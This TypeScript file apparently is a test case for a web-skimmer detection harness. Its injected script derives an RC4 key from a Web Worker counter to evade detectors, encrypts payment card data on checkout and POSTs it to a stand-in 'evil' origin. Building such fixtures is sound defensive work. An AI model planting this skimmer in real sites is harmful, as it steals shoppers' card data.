import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { rc4 } from '../ciphers.ts';
import { onPay, RC4 } from '../snippets.ts';

export default skimmer({
  id: 'unpinnable-entropy',
  why: 'The key is what a worker has counted to when asked: no seed and no clock of the browser decides it. Known as a way round differential visits.',
  covers: ['cipher: any', 'evade: detectors'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var code = 'var n=0,c=new MessageChannel();c.port1.onmessage=function(){for(var i=0;i<997;i++)n=(n*31+i)>>>0;c.port2.postMessage(0)};c.port2.postMessage(0);onmessage=function(){postMessage(n)}';
  var worker = new Worker(URL.createObjectURL(new Blob([code]))), keys = [];
  worker.onmessage = function (e) { keys.push(e.data.toString(36)); };
  addEventListener('keydown', function () { if (keys.length < 8) worker.postMessage(0); });
  ${RC4}
  ${onPay(js`
    var key = keys.join('');
    fetch('${site.origins.evil}/e', { method: 'POST', mode: 'no-cors', keepalive: true, body: btoa(key) + '.' + btoa(rc4(key, card())) });`)}
})();`),
  proof: holds((arrived) =>
    at(arrived, 'evil', '/e').map(({ body }) => {
      const [key = '', sealed = ''] = body.toString().split('.');
      return key === '' ? '' : rc4(Buffer.from(key, 'base64').toString(), Buffer.from(sealed, 'base64'));
    }),
  ),
});
